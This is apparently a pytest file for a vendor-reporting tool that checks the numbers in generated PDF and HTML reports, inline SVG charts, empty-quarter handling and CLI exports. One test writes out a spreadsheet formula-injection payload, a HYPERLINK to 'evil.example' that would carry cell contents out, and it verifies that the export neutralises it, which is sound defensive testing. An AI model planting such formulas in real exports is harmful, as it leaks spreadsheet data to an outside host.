"""Reports rendered from a small demo: the numbers in the PDF are the computed ones.

The reference numbers come from the capabilities that measured them (contracts'
stored SLA evaluations, the people report, the ingest batch log), read here
independently of the report builders, and are then looked for in the PDF text
extracted by pypdf (a reader nobody here wrote).
"""

from __future__ import annotations

import json
from datetime import date
from io import BytesIO
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from typer.testing import CliRunner

from fairshore import numbers
from fairshore.bootstrap import Workspace
from fairshore.contracts.services import sla_history
from fairshore.entrypoints.cli.main import cli
from fairshore.errors import InputError
from fairshore.governance.model import Finding
from fairshore.governance.services import record_findings
from fairshore.interactions.services import list_batches
from fairshore.metrics.periods import parse_period
from fairshore.people.services import people_report
from fairshore.reporting import services
from fairshore.reporting.render import get_renderer
from fairshore.vetting.services import rank_vendors

pytestmark = pytest.mark.slow

QUARTER_MONTHS = ("2026-07", "2026-08", "2026-09")
A4_WIDTH_PT, LETTER_WIDTH_PT = 595, 612  # ISO 216 A4 = 210 mm; US Letter = 8.5 in


def _pdf_text(data: bytes) -> str:
    reader = PdfReader(BytesIO(data))
    return " ".join(" ".join((page.extract_text() or "").split()) for page in reader.pages)


def test_demo_wrote_the_board_pack_and_the_qbr(demo_ws: Workspace) -> None:
    folder = demo_ws.home / "reports"
    names = {p.name for p in folder.iterdir()}  # the disclosure statement lives here too
    assert {
        "board-2026-Q3.html",
        "board-2026-Q3.pdf",
        "qbr-telco-blr-2026-Q3.html",
        "qbr-telco-blr-2026-Q3.pdf",
        "disclosure.md",
        "disclosure.html",
    } <= names
    assert (folder / "qbr-telco-blr-2026-Q3.pdf").read_bytes().startswith(b"%PDF-")


def test_qbr_pdf_numbers_equal_the_computed_ones(demo_ws: Workspace, tmp_path: Path) -> None:
    pdf = (demo_ws.home / "reports" / "qbr-telco-blr-2026-Q3.pdf").read_bytes()
    html = (demo_ws.home / "reports" / "qbr-telco-blr-2026-Q3.html").read_text()
    text = _pdf_text(pdf)

    # SLA: counted straight from the stored evaluations of the contracts capability.
    quarter = [
        e for e in sla_history(demo_ws, engagement_id="telco-blr") if e.period in QUARTER_MONTHS
    ]
    assert len(quarter) == 3
    statuses = [t.status for e in quarter for t in e.terms]
    credit = sum(e.net_credit for e in quarter)
    assert f"{statuses.count('breached')} of {len(statuses)}" in text
    assert f"{credit:,.2f} {quarter[0].currency}" in text
    assert statuses.count("breached") > 0  # July 2026 is the planted understaffed month

    # People: the people capability's own report for the same quarter.
    people = people_report(demo_ws, "telco-blr", period=parse_period("2026-Q3"))
    assert people.occupancy.overall is not None
    assert f"{people.occupancy.overall * 100:.1f} %" in text
    attrition = people.workforce.overall.annual_rate
    assert attrition is not None
    assert f"{attrition * 100:.1f} %" in text

    # Period, batches (ids and hashes) and methods are stated.
    assert "2026-07-01 to 2026-09-30" in text
    used = [
        b
        for b in list_batches(demo_ws, engagement_id="telco-blr")
        if b.table == "interactions" and b.status == "accepted"
    ]
    assert used
    for batch in used:  # the demo ingests one batch per table and engagement: the year
        assert batch.batch_id in html
        assert batch.sha256 and batch.sha256 in html
    assert "Methodology versions" in text and "telco-blr-msa v1" in text

    # A page as a picture, kept with the test's artefacts.
    page = pdfium.PdfDocument(pdf)[0]
    image = page.render(scale=1.5).to_pil()
    png = tmp_path / "qbr-telco-blr-2026-Q3-page1.png"
    image.save(png)
    assert png.stat().st_size > 10_000
    assert image.convert("L").getextrema()[0] < 80  # there is dark ink on the page


def test_charts_are_vector_svg_inline(demo_ws: Workspace) -> None:
    html = (demo_ws.home / "reports" / "qbr-telco-blr-2026-Q3.html").read_text()
    assert "<svg" in html and "<img" not in html and "<script" not in html
    assert "<link" not in html and 'src="http' not in html  # self-contained: no CDN


def test_a_quarter_without_data_says_so(demo_ws: Workspace) -> None:
    report = services.qbr_report(demo_ws, engagement_id="telco-blr", quarter="2025-Q1")
    text = _pdf_text(get_renderer("pdf").render(report, paper="a4"))
    assert "No data for 2025-Q1" in text
    for section_id in ("sla", "parity", "people", "staffing"):
        assert not report.section(section_id).has_data, section_id
        assert report.section(section_id).light == "grey"
    contacts = report.section("summary").figures[0]
    assert (contacts.value, contacts.text) == (None, "no data")
    assert "0.0 %" not in text and "0 of 0" not in text
    assert report.batches == []

    board = services.board_report(demo_ws, quarter="2025-Q1")
    board_pdf = get_renderer("pdf").render(board, paper="letter")
    assert round(float(PdfReader(BytesIO(board_pdf)).pages[0].mediabox.width)) == LETTER_WIDTH_PT
    assert "No data for 2025-Q1" in _pdf_text(board_pdf)
    assert board.section("portfolio").light == "grey"


def test_board_pack_has_every_engagement_and_the_ranking(demo_ws: Workspace) -> None:
    pdf = (demo_ws.home / "reports" / "board-2026-Q3.pdf").read_bytes()
    assert round(float(PdfReader(BytesIO(pdf)).pages[0].mediabox.width)) == A4_WIDTH_PT
    text = _pdf_text(pdf)
    for engagement in ("telco-mnl", "telco-blr", "telco-bog", "telco-krk"):
        assert engagement in text
    ranking = rank_vendors(demo_ws, as_of=date(2026, 9, 30))
    first = ranking.rows[0]
    # The ranking by the evidence, the answers-only total beside (printed as they read).
    shown = f"{numbers.number(round(float(first.total), 1))} "
    shown += numbers.number(round(float(first.declared_total or 0), 1))
    assert f"1 {first.vendor_id} {shown}" in text
    for heading in ("Top risks", "Total cost of ownership", "Vendor scorecards and ranking"):
        assert heading in text


def test_findings_export_neutralises_formula_injection(demo_ws: Workspace, tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    record_findings(
        demo_ws,
        [
            Finding(
                key="test:injection",
                source="audit",
                engagement_id="telco-blr",
                severity="minor",
                title=payload,
            )
        ],
    )
    out = tmp_path / "findings.xlsx"
    result = CliRunner().invoke(
        cli,
        ["--home", str(demo_ws.home), "export", "findings", "--out", str(out), "--json"],
    )
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["rows"] > 1
    sheet = load_workbook(out).worksheets[0]
    titles = [c for c in sheet.iter_rows() if c[4].value and "HYPERLINK" in str(c[4].value)]
    assert len(titles) == 1
    cell = titles[0][4]
    assert cell.value == "'" + payload
    assert cell.data_type == "s"


def test_cli_qbr_and_kpi_export(demo_ws: Workspace, tmp_path: Path) -> None:
    html = tmp_path / "q.html"
    result = CliRunner().invoke(
        cli,
        [
            "--home", str(demo_ws.home), "report", "qbr", "--engagement", "telco-krk",
            "--quarter", "2026-Q3", "--html", str(html), "--paper", "letter",
            "--json",
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert data["period"] == "2026-Q3" and html.exists()
    assert "size: letter" in html.read_text()
    assert {s["id"] for s in data["sections"]} >= {"summary", "sla", "parity", "people"}
    out = tmp_path / "kpis.xlsx"
    result = CliRunner().invoke(
        cli,
        ["--home", str(demo_ws.home), "export", "kpis", "--out", str(out), "--engagement",
         "telco-krk", "--by", "month,language"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    header = [c.value for c in load_workbook(out).worksheets[0][1]]
    assert header[:2] == ["language", "period"] and "offered" in header
    bad = CliRunner().invoke(
        cli, ["--home", str(demo_ws.home), "report", "board", "--quarter", "2026-13"]
    )
    assert isinstance(bad.exception, InputError) and "2026-Q3" in str(bad.exception)
